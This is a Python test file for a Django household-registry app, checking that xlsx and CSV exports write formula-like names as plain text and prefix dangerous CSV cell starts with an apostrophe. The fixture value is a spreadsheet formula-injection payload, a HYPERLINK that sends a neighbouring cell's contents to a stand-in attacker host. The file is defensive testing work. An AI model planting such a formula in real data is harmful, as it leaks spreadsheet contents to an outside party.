"""Every xlsx and CSV export writes text as text: a household (or product) named "=HYPERLINK(…)"
is a string in the officer's Excel, never a formula, and a CSV cell that starts like a formula
("=", "+", "-", "@", tab, CR) gets a leading apostrophe (xaso.core.spreadsheets)."""

import io
import pathlib
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from tests.support.households import household
from xaso.core.spreadsheets import csv_safe

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_a_household_named_like_a_formula_is_exported_as_text(login, one_stop_officer, commune, village):
    household(commune, village, "HK-1", head_name=NAME, contact_name="+84 912 345 678")
    response = login(one_stop_officer).get(reverse("community:households_export"))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cells = {
        c.value: c.data_type for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row
    }
    assert cells[NAME] == "s" and cells["+84 912 345 678"] == "s"


def test_every_dangerous_start_is_neutralised_and_numbers_are_left_alone():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(text) == "'" + text
    assert csv_safe("Nguyễn Văn An") == "Nguyễn Văn An"
    assert csv_safe(-5) == -5


def test_every_exporter_writes_through_the_helpers():
    """A module that builds a workbook or a CSV writer also uses xlsx_append / csv_writerow, and
    appends no row to a sheet itself."""
    root = pathlib.Path(__file__).resolve().parents[2] / "xaso"
    for path in root.rglob("*.py"):
        text = path.read_text()
        if path.name == "spreadsheets.py" and path.parent.name == "core":
            continue
        if "Workbook(" in text:
            assert "xlsx_append" in text, path
            assert "sheet.append(" not in text and "ws.append(" not in text, path
        if "csv.writer(" in text:
            assert "csv_writerow" in text and ".writerow(" not in text.replace("csv_writerow(", ""), path
